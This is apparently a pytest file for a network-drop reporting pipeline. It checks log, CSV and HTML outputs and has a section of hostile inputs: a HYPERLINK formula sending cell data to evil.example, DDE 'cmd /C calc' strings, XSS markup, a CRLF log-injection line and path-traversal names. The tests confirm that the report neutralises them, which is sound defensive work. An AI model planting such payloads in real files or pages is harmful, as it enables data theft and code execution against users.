"""Reports (pipeline/report, ipsec-drops report): ISA logs, CSV for Excel, charts, report.html.

The golden files under tests/data/report/ were generated from sample_logs/ once and reviewed by hand;
after a deliberate change of a layout, regenerate them with
``IPSEC_DROPS_UPDATE_GOLDEN=1 python -m pytest tests/test_report.py`` and review the diff.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
from collections import Counter
from datetime import UTC, date, datetime
from pathlib import Path

import duckdb
import html5lib
import pytest
from click.testing import CliRunner
from conftest import SAMPLE_CONFIG
from test_correlate import DROPS, config_text, write_drops

from pipeline.cli import cli
from pipeline.config import load_config, parse_config
from pipeline.correlate import flows
from pipeline.output import CsvSink
from pipeline.report import OUTPUTS, host_folders, isa, write_report

GOLDEN = Path(__file__).resolve().parent / "data" / "report"
UPDATE = bool(os.environ.get("IPSEC_DROPS_UPDATE_GOLDEN"))
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def sample_report(sample_warehouse, tmp_path_factory):
    out = tmp_path_factory.mktemp("report")
    result = write_report(sample_warehouse, load_config(SAMPLE_CONFIG), out)
    return out, result


def _tree(folder: Path, pattern: str) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob(pattern)) if p.is_file()}


def _compare_golden(got: dict[str, bytes], name: str) -> None:
    folder = GOLDEN / name
    if UPDATE:
        shutil.rmtree(folder, ignore_errors=True)
        for rel, data in got.items():
            (folder / rel).parent.mkdir(parents=True, exist_ok=True)
            (folder / rel).write_bytes(data)
    want = _tree(folder, "*")
    assert sorted(got) == sorted(want), f"files differ from {folder}"
    for rel in want:
        assert got[rel] == want[rel], f"{rel} differs from the golden file {folder / rel}"


# -- golden files, one per log style ---------------------------------------------------------------------------

def test_isa_w3c_files_match_the_golden_files(sample_report):
    out, _ = sample_report
    _compare_golden({**_tree(out, "IPPEXTD*.log"), **_tree(out, "ISALOG_*.w3c")}, "w3c")


def test_isa2000_native_files_match_the_golden_files(sample_warehouse, tmp_path):
    write_report(sample_warehouse, load_config(SAMPLE_CONFIG), tmp_path, only=["isa2000"], isa_style="native")
    got = _tree(tmp_path, "*")
    assert got and all(rel.endswith(".log") for rel in got)
    _compare_golden(got, "native")


def test_local_time_files_match_the_golden_files_on_the_day_summer_time_ends(sample_warehouse, tmp_path):
    # 2026-10-25 in Berlin has 25 hours: the files say both offsets and hold exactly that local day
    result = write_report(sample_warehouse, load_config(SAMPLE_CONFIG), tmp_path, tz="Europe/Berlin",
                          only=["isa2000", "isa2004"], since=datetime(2026, 10, 24, 22, tzinfo=UTC),
                          until=datetime(2026, 10, 25, 23, tzinfo=UTC))
    assert result.days == ["2026-10-25"] and result.zone == "Europe/Berlin"
    got = _tree(tmp_path, "*")
    assert b"#Remark: date and time are local time in Europe/Berlin (UTC offsets +02:00 and +01:00 on this day)" \
        in got["DB01/IPPEXTD20261025.log"]
    _compare_golden(got, "berlin")


# -- the ISA 2000 file read back --------------------------------------------------------------------------------

def read_w3c(path: Path) -> tuple[dict[str, str], list[dict[str, str]]]:
    """A W3C extended log: its directives and its rows (tab-delimited, as #Fields names them)."""
    directives: dict[str, str] = {}
    fields: list[str] = []
    rows = []
    data = path.read_bytes()
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b""), "CRLF line ends only"
    for line in data.decode("utf-8").split("\r\n"):
        if not line:
            continue
        if line.startswith("#"):
            key, _, value = line[1:].partition(": ")
            directives[key] = value
            if key == "Fields":
                fields = value.split("\t")
            continue
        values = line.split("\t")
        assert len(values) == len(fields), line
        rows.append(dict(zip(fields, values, strict=True)))
    return directives, rows


def _dash(value) -> str:
    return "-" if value is None else str(value)


def test_isa2000_files_read_back_give_the_warehouse_rows(sample_report, sample_warehouse):
    out, result = sample_report
    got: Counter = Counter()
    for path in result.paths("isa2000"):
        directives, rows = read_w3c(path)
        assert directives["Version"] == "1.0" and directives["Date"].endswith(" 00:00:00")
        assert directives["Fields"].split("\t") == list(isa.ISA2000_FIELDS)
        assert directives["Remark"] == "date and time are UTC"
        day = path.name[len("IPPEXTD"):-len(".log")]
        for r in rows:
            assert r["date"].replace("-", "") == day and r["s-filter-rule"] == "0"
            got[(path.parent.name, r["date"], r["time"], r["r-ip"], r["s-ip"], r["protocol"], r["param#1"],
                 r["param#2"], r["s-interface"])] += 1
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    drops = con.sql(f"SELECT * FROM read_parquet('{sample_warehouse}/drops/*/*.parquet')").to_arrow_table()
    want: Counter = Counter()
    for d in drops.to_pylist():
        if d["remote_ip"] is None and d["local_ip"] is None:
            continue
        local_is_src = d["local_ip"] is not None and d["local_ip"] == d["src_ip"]
        local_is_dst = d["local_ip"] is not None and d["local_ip"] == d["dst_ip"]
        if local_is_src or (not local_is_dst and d["direction"] == "outbound"):
            local_port, remote_port = d["src_port"], d["dst_port"]
        elif local_is_dst or d["direction"] == "inbound":
            local_port, remote_port = d["dst_port"], d["src_port"]
        else:
            local_port = remote_port = None
        t = d["event_time"].astimezone(UTC)
        want[(d["host"], f"{t:%Y-%m-%d}", f"{t:%H:%M:%S}", _dash(d["remote_ip"]), _dash(d["local_ip"]),
              "-" if d["protocol"] is None else isa.ISA2000_PROTOCOLS.get(d["protocol"], str(d["protocol"])),
              _dash(remote_port), _dash(local_port), _dash(d["local_ip"]))] += 1
    assert sum(want.values()) == 793  # 794 drops, one 4292 without an address
    assert got == want


def test_isa2004_rows_name_the_rule_that_dropped_each_packet(sample_report):
    _, result = sample_report
    seen: Counter = Counter()
    for path in result.paths("isa2004"):
        directives, rows = read_w3c(path)
        assert directives["Version"] == "2.0"
        assert directives["Fields"].split("\t")[:6] == ["computer", "date", "time", "IP protocol", "source",
                                                          "destination"]
        for r in rows:
            assert r["computer"] == path.parent.name and r["action"] == "Denied Connection"
            seen[(r["computer"], r["destination"].rsplit(":", 1)[0], r["rule"], r["x-verdict"])] += 1
            if r["rule"] == "-":
                assert r["x-netsh-line"] == "-" and r["x-verdict"] in ("no-policy", "no-matching-filter",
                                                                       "boot-or-block-mode")
            else:
                assert r["x-netsh-line"].split(":")[0] in ("web01.cmd", "db01.cmd")
    # scenario b: WEB01's DNS to the rogue resolver, all 30 drops by its own rule (EXPECTED.md)
    assert seen[("WEB01", "198.18.0.53", "Block rogue resolver", "blocked-by-rule")] == 30
    assert sum(n for (h, _, rule, _v), n in seen.items() if h == "APP03" and rule == "-") == 126


def test_each_drop_gets_the_rule_of_its_flow_across_a_policy_change_and_a_boot_window(tmp_path):
    # the correlation tests' site: a policy change at 12:00 UTC, a 4292 opening a boot window
    root = tmp_path / "wh"
    write_drops(root, DROPS)
    config = parse_config(config_text(), tmp_path)
    write_report(root, config, tmp_path / "out", only=["csv"])
    by_drop: Counter = Counter()
    for path in sorted((tmp_path / "out").glob("drops-*.csv")):
        for row in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            by_drop[(row["host"], row["verdict"], row["rule"] or None)] += 1
    by_flow: Counter = Counter()
    for f in flows(root, config).to_pylist():
        by_flow[(f["host"], f["verdict"], f["rule"])] += f["events"]
    assert by_drop == by_flow and sum(by_drop.values()) == len(DROPS)


# -- CSV for Excel ----------------------------------------------------------------------------------------------

def _csv_rows(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), f"{path.name} has no UTF-8 BOM"
    return list(csv.DictReader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def test_csv_files_for_excel(sample_report):
    out, result = sample_report
    assert {f.path for f in result.files if f.kind.endswith("-csv")} == \
        {"flows.csv", "suggestions.csv", *(f"drops-{d.replace('-', '')}.csv" for d in result.days)}
    day_rows = sum(len(_csv_rows(p)) for p in result.paths("drops-csv"))
    assert day_rows == 794
    flows_rows = _csv_rows(out / "flows.csv")
    assert len(flows_rows) == 215 and sum(int(r["events"]) for r in flows_rows) == 794
    suggestions = _csv_rows(out / "suggestions.csv")
    assert sorted((r["host"], r["local_port"] or r["remote_port"]) for r in suggestions) == \
        [("APP03", "9100"), ("DB01", "10000"), ("WEB01", "53"), ("WEB01", "5985")]
    assert all(r["netsh"].startswith("netsh ") for r in suggestions)
    for path in result.paths("drops-csv"):
        for r in _csv_rows(path):
            assert r["event_time"].endswith("Z") and r["event_time"][:10].replace("-", "") in path.name


def test_local_days_and_times_in_the_csv_files(sample_warehouse, tmp_path):
    result = write_report(sample_warehouse, load_config(SAMPLE_CONFIG), tmp_path, tz="America/New_York",
                          only=["csv"])
    total = 0
    for path in result.paths("drops-csv"):
        day = path.name[len("drops-"):-len(".csv")]
        for r in _csv_rows(path):
            when = datetime.fromisoformat(r["event_time"])
            assert when.utcoffset() is not None and when.strftime("%Y%m%d") == day
            assert r["event_time"][-6:] in ("-04:00", "-05:00")
            total += 1
    assert total == 794


# -- hostile values ---------------------------------------------------------------------------------------------

HOSTILE_HOST = '=HYPERLINK("http://evil.example/?x="&A1)<script>alert("host")</script>..\\x/\tY'
HOSTILE_RULE = "@SUM(1+1)*cmd|'/C calc'!A0 <img src=x onerror=alert(1)>"
HOSTILE_MESSAGE = '+cmd|" /C calc"!A0 <script>alert("message")</script>\r\n#Fields: injected'
HOSTILE_FILE = '-2+3 <b onmouseover=alert("file")>x.log'


def _hostile_site(tmp_path: Path) -> tuple[Path, object]:
    script = tmp_path / "hostile.cmd"
    script.write_text("\n".join([
        "pushd ipsec static",
        "add filteraction name=Block action=block",
        "add filterlist name=All",
        "add filter filterlist=All srcaddr=any dstaddr=any protocol=any mirrored=yes",
        "add policy name=P activatedefaultrule=no",
        f'add rule name="{HOSTILE_RULE}" policy=P filterlist=All filteraction=Block',
        "set policy name=P assign=yes", ""]), encoding="utf-8")
    escaped = HOSTILE_HOST.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
    config_file = tmp_path / "ipsec-drops.toml"
    config_file.write_text(f'[hosts."{escaped}"]\naddresses = ["10.0.0.1"]\npolicy = "{script.as_posix()}"\n',
                           encoding="utf-8")
    config = load_config(config_file)
    rows = []
    for i, (src, dst) in enumerate([("10.9.9.9", "10.0.0.1"), ("10.0.0.1", "10.8.8.8")]):
        inbound = dst == "10.0.0.1"
        rows.append({"event_time": datetime(2026, 10, 24, 8, i, tzinfo=UTC), "host": HOSTILE_HOST,
                     "source_format": "evtx", "source_file": HOSTILE_FILE, "source_record": i + 1, "event_id": 4290,
                     "drop_kind": "packet-dropped", "direction": "inbound" if inbound else "outbound", "protocol": 6,
                     "src_ip": src, "src_port": 40000, "dst_ip": dst, "dst_port": 445, "local_ip": "10.0.0.1",
                     "remote_ip": src if inbound else dst, "packets": 1, "wfp_filter_id": None,
                     "message": HOSTILE_MESSAGE})
    root = tmp_path / "wh"
    write_drops(root, rows)
    (root / "_runs").mkdir()
    # the run's list of skipped lines, written as ingest writes it (spreadsheet-safe CSV)
    with CsvSink(root / "_runs" / "r1-skipped.csv", ("file", "location", "kind", "reason", "rows", "text")) as sink:
        sink.write_rows([{"file": HOSTILE_FILE, "location": "line 3", "kind": "malformed",
                          "reason": "<i>bad</i> value", "rows": 1, "text": HOSTILE_MESSAGE}])
    return root, config


def test_hostile_host_rule_and_message_cannot_inject_formulas_markup_or_paths(tmp_path):
    root, config = _hostile_site(tmp_path)
    out = tmp_path / "out"
    result = write_report(root, config, out)
    assert result.totals == {"blocked-by-rule": 2}
    # every CSV cell: no formula, the hostile text kept behind a quote
    cells = []
    for path in sorted(out.glob("*.csv")):
        for row in _csv_rows(path):
            cells += [v for v in row.values() if v]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE_HOST in cells and "'" + HOSTILE_RULE in cells and "'" + HOSTILE_MESSAGE in cells
    # the page: no element or attribute from the data, the text shown as text
    page = (out / "report.html").read_text(encoding="utf-8")
    doc = html5lib.parse(page, namespaceHTMLElements=False)
    assert doc.findall(".//script") == [] and doc.findall(".//b") == [] and doc.findall(".//i") == []
    assert [e for e in doc.iter() if any(a.startswith("on") for a in e.attrib)] == []
    assert [e.get("src") for e in doc.iter("img") if not e.get("src", "").startswith("data:image/png;base64,")] == []
    text = "".join(doc.itertext())
    for value in (HOSTILE_RULE, HOSTILE_FILE, "<i>bad</i> value", '<script>alert("message")</script>'):
        assert value in text
    assert HOSTILE_HOST in text
    # the ISA files: in one safe folder inside the report, one row per drop, no field or row added
    isa_files = result.paths("isa2000") + result.paths("isa2004")
    assert len(isa_files) == 2
    for path in isa_files:
        assert path.resolve().parent.parent == out.resolve()
        folder = path.parent.name
        assert "/" not in folder and "\\" not in folder and not folder.startswith(".")
        _, rows = read_w3c(path)
        assert len(rows) == 2
    _, rows = read_w3c(result.paths("isa2004")[0])
    assert {r["rule"] for r in rows} == {HOSTILE_RULE} and {r["computer"] for r in rows} == \
        {HOSTILE_HOST.replace("\t", " ")}


def test_host_folders_are_safe_bounded_and_distinct():
    names = ["..\\x", "/", "..", "a/../../etc", "x" * 300, "x" * 299 + "y", "CON", "WEB01", "web01", ""]
    folders = host_folders(names)
    assert len(set(folders.values())) == len(names)
    for name in folders.values():
        assert name and len(name) <= 100 and not name.startswith(".")
        assert "/" not in name and "\\" not in name and name not in (".", "..")
    assert folders["WEB01"] == "WEB01" and folders["web01"].lower() != "web01"


def test_field_text_keeps_every_value_in_its_field():
    import pyarrow as pa

    values = pa.array(["a\tb", "c\r\nd", "", None, "e,f", "plain rule name"])
    assert isa.field_text(values).to_pylist() == ["a b", "c  d", "-", "-", "e,f", "plain rule name"]
    assert isa.field_text(values, native=True).to_pylist()[4] == "e f"
    protocols = pa.array([6, 17, 1, 50, 2, None], pa.int16())
    assert isa.protocol_names(protocols, isa.ISA2000_PROTOCOLS).to_pylist() == ["TCP", "UDP", "ICMP", "50", "2", "-"]
    assert isa.protocol_names(protocols).to_pylist() == ["TCP", "UDP", "ICMP", "ESP", "IGMP", "-"]


# -- the page ---------------------------------------------------------------------------------------------------

def test_report_html_is_well_formed_self_contained_and_complete(sample_report):
    out, result = sample_report
    page = (out / "report.html").read_text(encoding="utf-8")
    parser = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False)
    doc = parser.parse(page)  # raises on any parse error
    assert not parser.errors
    urls = [e.get(a) for e in doc.iter() for a in ("src", "href", "action", "data") if e.get(a)]
    assert urls and all(u.startswith("data:image/png;base64,") for u in urls)
    assert "default-src 'none'" in doc.find(".//meta[@http-equiv='Content-Security-Policy']").get("content")
    assert len(doc.findall(".//img")) == 5
    text = " ".join("".join(doc.itertext()).split())
    for expected in ("2026-10-23 to 2026-10-31", "APP03, DB01, WEB01", "blocked-by-rule 625", "Block rogue resolver",
                     "netsh ipsec static add filter filterlist=\"Suggested: WinRM from 10.40.1.8/29\"",
                     "20 file(s) read: 1,366 rows, 794 drops stored"):
        assert expected in text, expected
    assert result.seconds < 10


def test_charts_are_written_and_the_result_lists_every_file(sample_report):
    out, result = sample_report
    charts = result.paths("chart")
    assert [p.name for p in charts] == ["drops-per-hour.png", "top-ports.png", "top-sources.png",
                                        "hour-day-heatmap.png", "drops-per-rule.png"]
    assert all(p.read_bytes().startswith(b"\x89PNG") for p in charts)
    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    assert on_disk == {f.path for f in result.files}


# -- options, progress, command line ----------------------------------------------------------------------------

def test_only_some_outputs_and_progress_per_day(sample_warehouse, tmp_path):
    calls = []
    result = write_report(sample_warehouse, load_config(SAMPLE_CONFIG), tmp_path, host="db01", only=["isa2004"],
                          since="2026-10-26T00:00:00Z", until="2026-10-28T00:00:00Z",
                          progress=lambda done, total, label: calls.append((done, total, label)))
    assert result.days == ["2026-10-26", "2026-10-27"] and result.hosts == ["DB01"]
    assert {f.kind for f in result.files} == {"isa2004"}
    assert [c[:2] for c in calls] == [(0, 2), (1, 2), (2, 2)]
    with pytest.raises(ValueError):
        write_report(sample_warehouse, None, tmp_path, only=["pdf"])


def test_command_line_report_is_quiet_when_piped(sample_warehouse, tmp_path):
    out = tmp_path / "r"
    res = CliRunner().invoke(cli, ["--config", str(SAMPLE_CONFIG), "report", "--warehouse", str(sample_warehouse),
                                   "--out", str(out), "--only", "isa2000,csv", "--isa-style", "native",
                                   "--since", "2026-10-30", "--host", "APP03"])
    assert res.exit_code == 0, res.output
    assert "2 day(s), 1 host(s), times in UTC" in res.stdout
    assert "━" not in res.stderr and "\x1b[" not in res.stderr  # no progress bar on a pipe
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()) == [
        "APP03/IPPEXTD20261030.log", "APP03/IPPEXTD20261031.log", "drops-20261030.csv", "drops-20261031.csv",
        "flows.csv", "suggestions.csv"]
    first = (out / "APP03" / "IPPEXTD20261030.log").read_text(encoding="utf-8").splitlines()[0]
    assert not first.startswith("#") and first.count(", ") == len(isa.ISA2000_FIELDS) - 1
    bad = CliRunner().invoke(cli, ["report", "--warehouse", str(sample_warehouse), "--only", "pdf"])
    assert bad.exit_code == 2 and "pdf" in bad.output
    assert set(OUTPUTS) == {"isa2000", "isa2004", "csv", "charts", "html"}


def test_isa_names_and_remarks():
    from zoneinfo import ZoneInfo

    assert isa.isa2000_name(date(2026, 1, 2)) == "IPPEXTD20260102.log"
    assert isa.isa2004_name(date(2026, 1, 2)) == "ISALOG_20260102_FWS_000.w3c"
    assert isa.zone_remark(date(2026, 7, 1), ZoneInfo("Asia/Kathmandu")) == \
        "date and time are local time in Asia/Kathmandu (UTC+05:45 on this day)"
    assert isa.zone_remark(date(2026, 7, 1), UTC) == "date and time are UTC"


def test_command_line_report_shows_a_progress_bar_on_a_terminal(sample_warehouse, tmp_path):
    import pty
    import subprocess
    import sys

    master, slave = pty.openpty()
    env = {**os.environ, "COLUMNS": "100", "TERM": "xterm"}
    proc = subprocess.Popen([sys.executable, "-m", "pipeline", "--config", str(SAMPLE_CONFIG), "report",
                             "--warehouse", str(sample_warehouse), "--out", str(tmp_path), "--only", "isa2000"],
                            stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, env=env)
    os.close(slave)
    seen = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        seen += chunk
    os.close(master)
    assert proc.wait(timeout=120) == 0, seen.decode("utf-8", "replace")
    text = seen.decode("utf-8", "replace")
    assert "report" in text and "━" in text  # rich's bar, drawn while the days are written
